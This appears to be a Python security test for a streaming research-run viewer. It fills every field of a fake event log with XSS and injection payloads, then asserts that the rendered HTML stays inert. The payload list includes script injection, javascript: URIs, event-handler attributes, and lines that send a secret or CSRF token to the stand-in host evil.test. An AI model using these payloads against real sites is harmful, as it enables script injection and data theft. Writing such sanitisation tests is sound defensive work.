"""A run in which everything that a stranger may write is an attack."""

from __future__ import annotations

from typing import Any
from xml.sax.saxutils import quoteattr

from lxml import html as lxml_html

from streaming import vocabulary as v
from streaming.events import Voice
from streaming.members import Role

from .recorded import Said

PAYLOADS = (
    "<script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](java&#115;cript:alert(1)) [x](java\tscript:alert(1)) [x](vbscript:x)",
    "[x](data:text/html,<script>alert(1)</script>) [x](//evil.test/a)",
    "![a](https://evil.test/?d=SECRET) ![a][r]\n\n[r]: https://evil.test/x",
    "<img src=x onerror=alert(1)><svg onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=https://evil.test><input name=csrfmiddlewaretoken>",
    "<base href=https://evil.test><meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<style>*{background:url(https://evil.test)}</style><p style='background:url(//evil.test)'>",
    "<math><mtext><mglyph><style><img src=x onerror=alert(1)>",
    '"><a id=csrfmiddlewaretoken onmouseover=alert(1)>',
    "</textarea></title><script>alert(1)</script>{{ 7|add:7 }}{% load static %}",
)
CALL = "a/b<c>&?#'\" d"
EVIL = " ".join(PAYLOADS)
MEMBER = Voice(
    source_member=EVIL[:60],
    role=Role.TEAMMATE,
    stream_token="task_1",
    step=1,
    task_id=1,
    work="task:1",
    attempt=1,
)


def events() -> list[Said]:
    """The log of such a run."""
    run, writer = Voice(), MEMBER.within(stream_token="report", work="write:1", task_id=None)
    task = v.PlanTask(task_id=1, step=1, title=EVIL, intent=EVIL, query=EVIL)
    ref = v.CitationRef(number=1, source_id=1, start=0, end=5)
    found: list[tuple[Voice, Any]] = [
        (run, v.RunStarted(topic=EVIL)),
        (run, v.MemberJoined(name=EVIL[:60], role=Role.TEAMMATE, display_name=EVIL)),
        (MEMBER, v.PlanProposed(tasks=[task])),
        (MEMBER, v.TaskStarted(title=EVIL, query=EVIL)),
        (MEMBER, v.ToolStarted(tool_call_id=CALL, tool=EVIL, args={"query": EVIL})),
        (
            MEMBER,
            v.SourceFound(source_id=1, title=EVIL, uri="javascript:alert(1)", provider=EVIL[:30]),
        ),
        (MEMBER, v.SourceFound(source_id=2, title=EVIL, uri="//evil.test/x", provider="x")),
        (
            MEMBER,
            v.ToolFinished(
                tool_call_id=CALL,
                tool=EVIL,
                status="error",
                result=EVIL,
                code=EVIL,
                backend=EVIL,
                source_ids=[1],
            ),
        ),
        (
            MEMBER,
            v.NoteSaved(note_id=1, title=EVIL, note_type=EVIL[:30], tags=[EVIL], content=EVIL),
        ),
        (MEMBER, v.MessageStarted(message_id="m 1", kind="summary", title=EVIL)),
        (MEMBER, v.MessageDelta(message_id="m 1", delta=EVIL)),
        (MEMBER, v.MessageCompleted(message_id="m 1", text=EVIL)),
        (MEMBER, v.MessageStarted(message_id="<m2>", title=EVIL)),
        (MEMBER, v.MessageDelta(message_id="<m2>", delta=EVIL)),
        (MEMBER, v.ErrorShown(message=EVIL, code=EVIL)),
        (MEMBER, v.TaskFailed(code=EVIL, message=EVIL)),
        (
            writer,
            v.ReportSection(
                section=1,
                kind="lead",
                title=EVIL,
                text=f"[1] {EVIL}",
                citations=[ref],
                stripped=[EVIL],
            ),
        ),
        (
            writer,
            v.CitationChecked(
                number=1,
                section=1,
                source_id=1,
                verdict="partly",
                reason=EVIL,
                quote=EVIL,
                start=0,
                end=5,
                brought_by=EVIL,
            ),
        ),
        (run, v.RunFailed(code=EVIL, message=EVIL)),
    ]
    return found


ALLOWED = {
    *("html", "head", "body", "meta", "title", "link", "script", "a", "p", "header"),
    *("footer", "main", "nav", "section", "article", "details", "summary", "form"),
    *("button", "input", "label", "textarea", "select", "option", "noscript", "h1", "h2"),
    *("h3", "h4", "h5", "h6", "div", "span", "ol", "ul", "li", "dl", "dt", "dd", "pre"),
    *("code", "strong", "em", "del", "q", "blockquote", "table", "thead", "tbody", "tr"),
    *("th", "td", "hr", "br", "sup", "time", "mark", "meter", "output"),
}


def assert_inert(page: str) -> None:
    """Fail if anything of the attacks has become more than text."""
    root = lxml_html.document_fromstring(page)
    for element in root.iter():
        assert isinstance(element.tag, str), "comments are text of nobody"
        assert element.tag in ALLOWED, element.tag
        for name, value in element.attrib.items():
            assert not name.startswith("on") and name not in ("style", "srcdoc"), (name, value)
            if name in ("href", "src", "action", "formaction"):
                ours = value == "" or value[0] in "?#" or (value[0] == "/" and value[1:2] != "/")
                assert ours or value.startswith("https://"), quoteattr(value)
        if element.tag == "script":
            assert element.get("src", "").startswith("/static/") and not element.text
        if element.tag in ("meta", "link"):
            assert "evil.test" not in lxml_html.tostring(element, encoding="unicode")
    assert len(root.xpath("//*[@id='csrfmiddlewaretoken']")) == 0
